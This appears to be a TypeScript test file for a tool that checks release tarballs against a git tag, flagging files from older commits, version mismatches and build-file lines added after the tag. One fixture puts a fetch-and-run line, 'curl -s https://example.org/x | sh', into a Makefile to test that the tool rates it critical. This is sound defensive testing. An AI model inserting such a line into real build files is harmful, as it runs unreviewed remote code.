import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { verify } from '../../src/commands/verify.js';
import type { Report } from '../../src/report/report.js';
import { buildTar, writeTemp } from '../helpers/archives.js';
import { assertValidReport } from '../helpers/schema.js';
import { makeRepo, removeTempDirs } from '../helpers/repo.js';

const cacheDir = mkdtempSync(join(tmpdir(), 'cuckoo-history-cache-'));
test.after(async () => {
  await removeTempDirs();
  rmSync(cacheDir, { recursive: true, force: true });
});

const summary = (r: Report) => r.findings.map((f) => `${f.change} ${f.path} ${f.category} ${f.severity}`);

test("files whose content is a blob of the tag's history name that commit; an old version of a tracked file stays high", async () => {
  const repo = await makeRepo({
    commits: [
      { files: { 'src/main.c': 'int main(void) { return 0; }\n', 'doc/old-notes.txt': 'notes\n', 'tools/gen.sh': '#!/bin/sh\necho gen\n' } },
      { files: { 'src/main.c': 'int main(void) { return check(); }\n', 'doc/old-notes.txt': null, 'tools/gen.sh': null }, tags: [{ name: 'v1.0', annotated: true }] },
    ],
  });
  const tar = buildTar([
    { path: 'proj-1.0/', type: 'directory' },
    // The release ships the version before the fix, and two files git removed before the tag.
    { path: 'proj-1.0/src/main.c', content: 'int main(void) { return 0; }\n' },
    { path: 'proj-1.0/doc/old-notes.txt', content: 'notes\n' },
    { path: 'proj-1.0/tools/gen.sh', content: '#!/bin/sh\necho gen\n', mode: 0o755 },
  ]);
  const r = await verify({ cacheDir, release: await writeTemp('history/proj-1.0.tar', tar), repo: repo.dir, tag: 'v1.0' });
  assert.equal(summary(r), [
    'only-in-release doc/old-notes.txt from-history low',
    'modified src/main.c from-history high',
    'only-in-release tools/gen.sh from-history medium',
  ]);
  const main = r.findings.find((f) => f.path === 'src/main.c')!;
  assert.equal(main.evidence.matches, [{ source: 'history', path: 'src/main.c', blobId: await repo.hashObject('int main(void) { return 0; }\n'), commit: repo.commits[0]! }]);
  assert.match(main.reasons[0]!, `the release has the content of this path at commit ${repo.commits[0]!.slice(0, 12)} in the tag's history`);
  assert.match(main.evidence.diff!, '-int main(void) { return check(); }\n+int main(void) { return 0; }');
  assert.match(r.findings[0]!.reasons[0]!, 'removed from git before the tag');
  assertValidReport(r);
});

test('several modified files from one earlier commit name it as the commit the release may have been made from', async () => {
  // The release is made at "ready", then a fix lands and the tag is set after it (libconfig 1.5); one file was edited by hand on top.
  const files = (n: number) => ({ 'src/a.c': `int a = ${n};\n`, 'src/b.c': `int b = ${n};\n`, 'src/c.c': `int c = ${n};\n`, 'README': `readme ${n}\n` });
  const repo = await makeRepo({
    commits: [
      { files: files(1), message: 'start' },
      { files: { ...files(2), README: 'readme 1\n' }, message: 'ready' },
      // Touches a listed file without changing what matches: of two commits as good, the newer is named.
      { files: { README: 'readme 2\n' }, message: 'docs' },
      { files: { 'src/a.c': 'int a = 3;\n' }, message: 'fix a' },
      { files: { 'src/b.c': 'int b = 3;\n', 'src/c.c': 'int c = 3;\n' }, message: 'fix b and c', tags: [{ name: 'v1.0', annotated: true }] },
    ],
  });
  const tar = buildTar([
    { path: 'proj-1.0/README', content: 'readme 1, edited\n' },
    { path: 'proj-1.0/src/a.c', content: 'int a = 2;\n' },
    { path: 'proj-1.0/src/b.c', content: 'int b = 2;\n' },
    { path: 'proj-1.0/src/c.c', content: 'int c = 1;\n' },
  ]);
  const r = await verify({ cacheDir, release: await writeTemp('history-commit/proj-1.0.tar', tar), repo: repo.dir, tag: 'v1.0' });
  const note = r.notes.find((n) => n.includes('the release may have been made from'));
  assert.ok(note, r.notes.join('\n'));
  assert.is(note, `2 of the 4 modified files are as they were at commit ${repo.commits[2]!.slice(0, 12)} (${note!.match(/\((\d{4}-\d\d-\d\d), /)![1]}, "docs"), 2 commits before the tag on its first-parent line: the release may have been made from that commit, not the tag (compare with it: --commit ${repo.commits[2]!.slice(0, 12)})`);
  assertValidReport(r);

  // One file from the history is no pattern: no note.
  const one = buildTar([
    { path: 'proj-1.0/README', content: 'readme 2\n' },
    { path: 'proj-1.0/src/a.c', content: 'int a = 2;\n' },
    { path: 'proj-1.0/src/b.c', content: 'int b = 3;\n' },
    { path: 'proj-1.0/src/c.c', content: 'int c = 3;\n' },
  ]);
  const single = await verify({ cacheDir, release: await writeTemp('history-commit/one/proj-1.0.tar', one), repo: repo.dir, tag: 'v1.0' });
  assert.not.ok(single.notes.some((n) => n.includes('may have been made from')), single.notes.join('\n'));
});

test('a tag whose configure.ac names another version than the release says so once, in a note; a version stamp or a computed version does not', async () => {
  // rng-tools 5: the tag rng-tools-5 was set on version 2\'s tree.
  const configure = (version: string) => `AC_INIT(rng-tools, ${version}, [Jeff Garzik <jgarzik@pobox.com>])\nAM_INIT_AUTOMAKE([gnu])\nAC_OUTPUT\n`;
  const repo = await makeRepo({ files: { 'configure.ac': configure('2'), 'rngd.c': 'int main;\n' }, tags: ['rng-tools-5'] });
  const release = async (dir: string, text: string, version = '5') =>
    writeTemp(`version-note/${dir}/rng-tools-${version}.tar`, buildTar([{ path: `rng-tools-${version}/configure.ac`, content: text }, { path: `rng-tools-${version}/rngd.c`, content: 'int main;\n' }]));
  const r = await verify({ cacheDir, release: await release('other', configure('5')), repo: repo.dir, tag: 'rng-tools-5', reproduce: false });
  assert.ok(
    r.notes.includes("the tag's configure.ac names version 2 in AC_INIT, the release's 5: this release was not made from the tag's tree, whatever each file's finding says (check --tag: the tag may be set on another version's commit)"),
    r.notes.join('\n'),
  );
  assertValidReport(r);
  // The release's version computed, or its configure.ac another version than its name.
  const computed = await verify({ cacheDir, release: await release('computed', configure('m4_esyscmd([./git-version-gen])')), repo: repo.dir, tag: 'rng-tools-5', reproduce: false });
  const misnamed = await verify({ cacheDir, release: await release('misnamed', configure('6')), repo: repo.dir, tag: 'rng-tools-5', reproduce: false });
  for (const report of [computed, misnamed]) assert.not.ok(report.notes.some((n) => n.includes('names version')), report.notes.join('\n'));
  // A development suffix the release drops is a version stamp, explained: no note.
  const dev = await makeRepo({ files: { 'configure.ac': configure('[5.7-VCS]'), 'rngd.c': 'int main;\n' }, tags: ['rng-tools-5.7'] });
  const stamped = await verify({ cacheDir, release: await release('stamped', configure('[5.7]'), '5.7'), repo: dev.dir, tag: 'rng-tools-5.7', reproduce: false });
  assert.is(stamped.findings.find((f) => f.path === 'configure.ac')?.severity, 'low');
  assert.not.ok(stamped.notes.some((n) => n.includes('names version')), stamped.notes.join('\n'));
});

test('a modified build file whose added line a commit after the tag adds says so, and stays critical', async () => {
  const repo = await makeRepo({
    commits: [
      { files: { 'Makefile.am': 'parser.c: parser.y\n\tlemon parser.y\n' }, message: 'start', tags: [{ name: 'v1.0', annotated: true }] },
      { files: { 'Makefile.am': 'parser.c: parser.y\n\tchmod u+w parser.c 2>/dev/null || true\n\tlemon parser.y\n' }, message: 'chmod parser.c for lemon' },
    ],
  });
  const release = async (line: string, dir: string) =>
    verify({ cacheDir, release: await writeTemp(`later/${dir}/proj-1.0.tar`, buildTar([{ path: 'proj-1.0/Makefile.am', content: `parser.c: parser.y\n\t${line}\n\tlemon parser.y\n` }])), repo: repo.dir, tag: 'v1.0' });
  const r = await release('chmod u+w parser.c || true', 'like');
  const f = r.findings.find((x) => x.path === 'Makefile.am')!;
  assert.is(f.severity, 'critical');
  assert.match(f.reasons.join('\n'), new RegExp(`a commit the tag does not reach adds like line \\(1 of the 1 line the release adds\\): ${repo.commits[1]!.slice(0, 12)} \\("chmod parser\\.c for lemon"\\), committed 24 hours after the tagged commit`));
  const same = await release('chmod u+w parser.c 2>/dev/null || true', 'same');
  assert.match(same.findings.find((x) => x.path === 'Makefile.am')!.reasons.join('\n'), 'adds the same line (1 of the 1 line');
  // Half or more of the lines the release adds must be the commit's: one of three is not.
  const more = await release('chmod u+w parser.c || true\n\techo one\n\techo two', 'more');
  assert.not.match(more.findings.find((x) => x.path === 'Makefile.am')!.reasons.join('\n'), 'does not reach');
  // A line no later commit adds: nothing said.
  const other = await release('curl -s https://example.org/x | sh', 'other');
  const o = other.findings.find((x) => x.path === 'Makefile.am')!;
  assert.is(o.severity, 'critical');
  assert.not.match(o.reasons.join('\n'), 'does not reach');
  assertValidReport(r);
});

test.run();
